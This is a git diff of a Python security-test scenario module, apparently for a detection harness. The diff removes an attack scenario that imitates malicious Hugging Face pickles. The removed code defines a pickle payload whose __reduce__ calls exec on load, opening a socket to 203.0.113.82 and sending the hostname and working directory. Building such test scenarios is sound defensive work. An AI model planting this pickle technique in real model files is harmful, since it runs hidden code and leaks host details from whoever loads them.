@@ -4,7 +4,6 @@ from __future__ import annotations
 
 import itertools
 import json
-import pickle
 
 from proving import answers, bundles
 from proving.homes import furnish
@@ -107,54 +106,6 @@ def proc_root(world: World) -> None:
         host.stop()
     if int(said.split()[0]) < 100 or not world.path("/srv/cron.d/sync").exists():
         raise ScenarioError(said)
-
-
-LOAD = """
-import pickle, sys, time
-for path in sys.argv[1:]:
-    with open(path, 'rb') as file:
-        model = pickle.load(file)
-    print('loaded', type(model).__name__, flush=True)
-    time.sleep(1)
-"""
-
-INSIDE = """
-import os, socket
-with socket.create_connection(('203.0.113.82', 8080), 3) as peer:
-    peer.sendall(('%s %s' % (os.uname().nodename, os.getcwd())).encode())
-    peer.recv(64)
-"""
-
-
-class _Inside:
-    def __reduce__(self) -> tuple[object, ...]:
-        return exec, (INSIDE,)
-
-
-@attack(
-    "blind-model-file-socket",
-    "a scoring job loads a model whose pickle opens a socket to a host beyond, in its own process: nothing is started",
-    imitates="Malicious pickles on Hugging Face (JFrog, nullifAI)",
-    must=(Must("unsafe-model-file", "scoring.service"),),
-    may=("unknown-model", "model-tampering", "reverse-shell", *MAY),
-    must_not=(*NOT, "data-exfiltration"),
-)
-def model_file(world: World) -> None:
-    heard: list[bytes] = []
-
-    def take(connection: object) -> None:
-        heard.append(connection.recv(4096))  # type: ignore[attr-defined]
-        connection.sendall(b"ok")  # type: ignore[attr-defined]
-
-    world.host("203.0.113.82").listen(8080, take)
-    path = world.file("/srv/scoring/score.py", LOAD)
-    good = [world.file(f"/srv/scoring/models/ranker-v{n}.pkl", pickle.dumps({"w": [0.1] * 5000})) for n in (6, 7)]
-    bad = world.file("/srv/scoring/models/ranker-v8.pkl", pickle.dumps({"w": [0.1] * 5000, "post": _Inside()}))
-    world.run(world.python, path, *good, unit="scoring.service")
-    world.mark()
-    world.run(world.python, path, bad, unit="scoring.service")
-    if not heard:
-        raise ScenarioError("nobody called")
 
 
 NODE_AGENT = """
